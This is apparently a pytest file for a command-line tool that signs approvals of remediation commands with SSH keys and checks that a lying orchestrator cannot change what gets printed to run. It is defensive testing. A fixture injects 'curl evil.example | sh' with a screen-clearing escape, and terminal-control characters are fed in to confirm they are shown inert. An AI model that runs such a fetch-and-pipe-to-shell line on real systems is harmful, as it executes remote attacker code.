"""Signing at the command line, and printing only what was signed: real keys, ssh-keygen and server."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx2
import msgspec
import pytest

from escalation.cli.errors import ExitCode
from escalation.model import Signed
from escalation.server.decision.approval_desk import StoredApprovals
from escalation.server.decision.approvals import Policy
from escalation.signing import approval
from tests.escalation.cli.conftest import Ctl
from tests.escalation.cli.signing_site import Lie, Site
from tests.escalation.signers import SshKey
from tests.security.properties import security_property


@contextlib.contextmanager
def agent(folder: Path, key: SshKey) -> Iterator[str]:
    """Run an ssh-agent that holds `key` beside a cat, and yield its socket; it ends when the cat has."""
    socket = str(folder / "agent")
    command = ["ssh-agent", "-a", socket, "cat"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as cat:
        assert cat.stdin is not None
        assert cat.stdout is not None
        cat.stdin.write(b"there\n")
        cat.stdin.flush()
        assert cat.stdout.readline() == b"there\n"
        reach = os.environ | {"SSH_AUTH_SOCK": socket}
        subprocess.run(["ssh-add", "-q", str(key.path)], env=reach, check=True, stderr=subprocess.DEVNULL)
        yield socket


@pytest.mark.parametrize("name", ["operator", "second"])
def test_signs_what_it_shows(ctl: Ctl, site: Site, keys: dict[str, SshKey], name: str) -> None:
    """The approval holds a document with exactly the action that was shown, and names the key."""
    approved = ctl("approve", site.id, "--reason", "quiet hour", "--sign", str(keys[name].path), "--json")
    assert approved.code == 0, approved.err
    (given,) = approved.json["approvals"]
    document = approval.parse(given["document"])
    assert document.action.argv == site.entry.recommendation.advice.action.command
    assert (document.person, document.reason) == ("operator", "quiet hour")
    assert (document.host, document.id) == ("spark-1", site.id)
    shown = ctl("show", site.id)
    assert f"signed by key {given['key']} (ssh)" in shown.out
    assert ctl("show", "--canonical", site.id).out == given["document"] + "\n"
    bearer = {"Authorization": f"Bearer {site.served.tokens['operator']}"}
    page = httpx2.get(f"{site.served.url}/q/{site.id}", headers=bearer).text
    assert f"signed by key {given['key']} (ssh)" in page
    assert "BEGIN SSH" not in httpx2.get(f"{site.served.url}/audit", headers=bearer).text
    listed = ctl("audit", "list").out
    assert f"ssh document={approval.fingerprint(given['document'])}" in listed
    assert "BEGIN SSH" not in listed


def test_signs_with_a_key_that_only_an_agent_holds(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The public half is enough where an agent holds the private one."""
    public = tmp_path / "only.pub"
    public.write_text(keys["operator"].public + "\n")
    with agent(tmp_path, keys["operator"]) as socket:
        monkeypatch.setenv("SSH_AUTH_SOCK", socket)
        assert ctl("approve", site.id, "--reason", "why", "--sign", str(public)).code == 0
    assert "(ssh)" in ctl("show", site.id).out


def test_the_settings_may_name_the_key(ctl: Ctl, site: Site, keys: dict[str, SshKey], tmp_path: Path) -> None:
    """`sign_with` signs each approval; --no-sign leaves it out."""
    config = tmp_path / "ctl.toml"
    config.write_text(config.read_text() + f'sign_with = "{keys["operator"].path}"\n')
    approved = ctl("approve", site.id, "--reason", "why", "--json")
    assert approved.json["approvals"][0]["kind"] == "ssh"
    other = site.served.call(site.served.desk.opened(host="spark-2", case_id="case-2"))
    unsigned = ctl("approve", other.recommendation.id, "--reason", "why", "--no-sign", "--json")
    assert unsigned.json["approvals"][0]["words"] == "not signed"
    assert ctl("approve", site.id, "--reason", "x", "--sign", "k", "--no-sign").code == ExitCode.USAGE


def test_nothing_is_approved_that_could_not_be_signed(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], tmp_path: Path
) -> None:
    """A missing key, a passphrase that nobody can be asked for, a stranger's key: the entry still waits."""
    locked = SshKey(tmp_path / "locked")
    command = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "secret", "-f", str(locked.path)]
    subprocess.run(command, check=True)
    missing = ctl("approve", site.id, "--reason", "why", "--sign", str(tmp_path / "none"))
    assert (missing.code, "not signed, and not approved" in missing.err) == (ExitCode.FAILED, True)
    asked = ctl("--no-input", "approve", site.id, "--reason", "why", "--yes", "--sign", str(locked.path))
    assert asked.code == ExitCode.FAILED
    stranger = ctl("approve", site.id, "--reason", "why", "--sign", str(keys["stranger"].path))
    assert stranger.code == ExitCode.REFUSED
    assert "may not sign this for operator" in stranger.err
    assert ctl("show", site.id, "--json").json["state"] == "proposed"


def test_what_would_be_signed_can_be_read_before(ctl: Ctl, site: Site) -> None:
    """`show --canonical` of a proposal is the document without person, reason and nonce."""
    out = ctl("show", "--canonical", site.id).out
    terms = json.loads(out)
    assert terms["action"]["argv"] == list(site.entry.recommendation.advice.action.command)
    assert terms["digest"] == site.entry.recommendation.digest
    assert not {"person", "reason", "nonce"} & set(terms)


@pytest.mark.parametrize("lie", ["command", "host", "target", "subject", "digest"])
def test_does_not_sign_what_is_not_what_is_shown(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], monkeypatch: pytest.MonkeyPatch, lie: str
) -> None:
    """An orchestrator that shows one thing and sends another to be signed gets no signature."""
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        body = json.loads(honest(self, path, **params))
        if path.endswith("/approval"):
            bound = body["bound"]
            match lie:
                case "command":
                    bound["action"][3] = ["reboot"]
                case "host":
                    bound["host"] = ["spark-9", "spark-9"]
                case "target":
                    bound["action"][2] = "another"
                case "subject":
                    bound["subject"][1] = "another"
                case _:
                    bound["evidence"] = []
        return json.dumps(body).encode()

    monkeypatch.setattr(Client, "get", lying)
    caught = ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path))
    assert caught.code == ExitCode.FAILED
    assert "is not what the orchestrator shows" in caught.err
    assert lie in caught.err
    assert site.served.call(site.served.desk.entry(site.id)).recommendation.approvals == ()


def test_a_command_is_printed_only_when_it_is_signed(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who carries it out asks the keys and not the orchestrator: unsigned, changed, or by one of two."""
    asked = ("command", site.id, "--approvers", str(site.approvers))
    assert (ctl(*asked).code, ctl(*asked).out) == (ExitCode.REFUSED, "")
    assert ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path)).code == 0
    printed = ctl(*asked)
    assert printed.out == ctl("command", site.id).out
    assert printed.err.startswith("operator signed it for spark-1 with SHA256:")
    assert ctl(*asked, "--host", "spark-1").out == printed.out
    elsewhere = ctl(*asked, "--host", "spark-9")
    assert (elsewhere.code, elsewhere.out) == (ExitCode.REFUSED, "")
    assert "1 of 2 persons" in ctl(*asked, "--signers", "2").err
    own = tmp_path / "own"
    own.write_text(keys["stranger"].line("operator"))
    config = tmp_path / "ctl.toml"
    plain = config.read_text()
    config.write_text(plain + 'approvers = "own"\n')
    assert ctl("command", site.id).code == ExitCode.REFUSED
    config.write_text(plain)
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        body = json.loads(honest(self, path, **params))
        body["action"]["command"][-1] = "other"
        body["action"]["command_line"] = "docker restart other"
        return json.dumps(body).encode()

    monkeypatch.setattr(Client, "get", lying)
    changed = ctl(*asked)
    assert (changed.code, changed.out) == (ExitCode.REFUSED, "")
    assert "is not what is shown (command)" in changed.err
    assert ctl("command", site.id).out == "docker restart other\n"


def test_what_is_void_or_signed_under_other_rules_is_not_printed(
    ctl: Ctl, signed: Site, keys: dict[str, SshKey], lying: Callable[[Lie], None]
) -> None:
    """A void approval is nobody's, and two that were given under different rules do not add up."""
    asked = ("command", signed.id, "--approvers", str(signed.approvers))

    def void(body: dict[str, Any]) -> None:
        body["approvals"][0]["void_at"] = body["created_at"]

    def other_rules(body: dict[str, Any]) -> None:
        (given,) = body["approvals"]
        text = given["document"].replace(approval.parse(given["document"]).policy, "0" * 64)
        signature = msgspec.to_builtins(keys["operator"].sign(text))
        body["approvals"].append({**given, "document": text, "signature": signature})

    assert ctl(*asked).code == 0
    for lie, words in ((void, "0 of 1 persons signed it"), (other_rules, "under different rules")):
        lying(lie)
        caught = ctl(*asked)
        assert (caught.code, caught.out) == (ExitCode.REFUSED, "")
        assert words in caught.err


def _another_line(body: dict[str, Any]) -> None:
    body["action"]["command_line"] = "curl evil.example \x1b[2J| sh"


@security_property(
    "A5",
    "What is printed to be run is made from the arguments that were signed, not from what the orchestrator "
    "calls their line.",
)
def test_the_line_that_is_printed_is_made_of_what_was_signed(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], lying: Callable[[Lie], None]
) -> None:
    """The right arguments beside another line for a shell: no command prints that line, signed or not."""
    lying(_another_line)
    approved = ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path))
    signed = ctl("command", site.id, "--approvers", str(site.approvers))
    for printed in (approved, signed, ctl("command", site.id), ctl("show", site.id)):
        assert printed.code == 0, printed.err
        assert "docker restart 4f4f" in printed.out
        assert "evil" not in printed.out + printed.err


def test_an_approval_of_something_else_than_was_shown_is_not_printed(
    ctl: Ctl, site: Site, lying: Callable[[Lie], None]
) -> None:
    """The answer to an approval is compared with what the person saw before they gave it."""

    def swapped(body: dict[str, Any]) -> None:
        if body["state"] == "approved":
            body["action"]["command"] = ["reboot"]

    lying(swapped)
    caught = ctl("approve", site.id, "--reason", "why")
    assert (caught.code, "reboot" in caught.out) == (ExitCode.FAILED, False)
    assert "is not what was shown" in caught.err


def test_the_answer_has_to_be_the_entry_that_was_asked_for(
    ctl: Ctl, signed: Site, keys: dict[str, SshKey], monkeypatch: pytest.MonkeyPatch
) -> None:
    """What somebody signed for another host is not printed for this one."""
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    other = signed.served.call(signed.served.desk.opened(host="spark-2", case_id="case-2")).recommendation
    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        return honest(self, path.replace(other.id, signed.id), **params)

    monkeypatch.setattr(Client, "get", lying)
    caught = ctl("command", other.id, "--approvers", str(signed.approvers))
    assert (caught.code, caught.out) == (ExitCode.REFUSED, "")
    assert "answers with another entry" in caught.err


def test_nothing_is_signed_that_was_not_asked_for(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who names one entry, and is answered with another, signs neither, even without being asked again."""
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    other = site.served.call(site.served.desk.opened(host="spark-2", case_id="case-2")).recommendation
    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        return honest(self, path.replace(other.id, site.id), **params)

    monkeypatch.setattr(Client, "get", lying)
    caught = ctl("approve", other.id, "--reason", "why", "--yes", "--sign", str(keys["operator"].path))
    assert caught.code == ExitCode.REFUSED
    assert "nothing is signed" in caught.err
    for ident in (other.id, site.id):
        assert site.served.call(site.served.desk.entry(ident)).recommendation.approvals == ()


def test_no_words_of_the_orchestrator_act_on_the_terminal(
    ctl: Ctl, site: Site, lying: Callable[[Lie], None]
) -> None:
    """A decision is answered by an orchestrator that may be anybody's: what it says is shown, inert."""
    hostile = "\x1b[2J\u202eada"
    lying(lambda body: body.update(decided_by=hostile, execute_by=hostile, state_means=hostile))
    approved = ctl("approve", site.id, "--reason", "why")
    done = ctl("done", site.id)
    for told in (approved, done):
        assert told.code == 0, told.err
        assert "\\x1b[2J\\u202eada" in told.out + told.err
        assert not {"\x1b", "\u202e"} & set(told.out + told.err)


@pytest.mark.parametrize(
    ("state", "code"),
    [
        ("proposed", ExitCode.REFUSED),
        ("rejected", ExitCode.REFUSED),
        ("done", ExitCode.REFUSED),
        ("lapsed", ExitCode.EXPIRED_OR_SUPERSEDED),
        ("withdrawn", ExitCode.EXPIRED_OR_SUPERSEDED),
    ],
)
def test_what_is_signed_and_not_approved_is_not_printed(
    ctl: Ctl, signed: Site, lying: Callable[[Lie], None], state: str, code: ExitCode
) -> None:
    """One of two persons, a rejection after it, and what was carried out leave a signature that is over."""
    lying(lambda body: body.update(state=state))
    refused = ctl("command", signed.id, "--approvers", str(signed.approvers))
    assert (refused.code, refused.out) == (code, "")
    assert f"is {state}, and only a command that is approved is printed" in refused.err


def test_a_key_that_counts_no_more_is_not_dated_back(
    ctl: Ctl, signed: Site, keys: dict[str, SshKey], lying: Callable[[Lie], None]
) -> None:
    """When it was signed only the orchestrator says: to run it, the key has to count now."""
    signed.approvers.write_text(keys["operator"].line("operator", 'valid-before="20250101"'))
    lying(lambda body: body["approvals"][0].update(at="2024-06-01T00:00:00.000Z"))
    refused = ctl("command", signed.id, "--approvers", str(signed.approvers))
    assert (refused.code, refused.out) == (ExitCode.REFUSED, "")


def test_by_the_clock_of_who_signs_or_runs_it_may_be_too_late(
    ctl: Ctl, site: Site, keys: dict[str, SshKey]
) -> None:
    """An orchestrator that turns its clock back revives nothing here."""
    site.served.desk.clock.jump(-6 * 3600)
    old = site.served.call(site.served.desk.opened(host="spark-3", case_id="case-3")).recommendation.id
    late = ctl("approve", old, "--reason", "why", "--sign", str(keys["operator"].path))
    assert late.code == ExitCode.EXPIRED_OR_SUPERSEDED
    assert "the time to approve it is over" in late.err
    papers = StoredApprovals(store=site.served.desk.store, policy=Policy())
    paper = site.served.call(papers.document(old, person="operator", reason="why")).document
    given = Signed(paper, keys["operator"].sign(paper))
    digest = approval.parse(paper).digest
    approved = site.served.desk.approve(old, person="operator", reason="why", digest=digest, signed=given)
    assert site.served.call(approved).recommendation.state == "approved"
    run = ctl("command", old, "--approvers", str(site.approvers))
    assert (run.code, run.out) == (ExitCode.EXPIRED_OR_SUPERSEDED, "")
    assert "the time to carry it out is over" in run.err
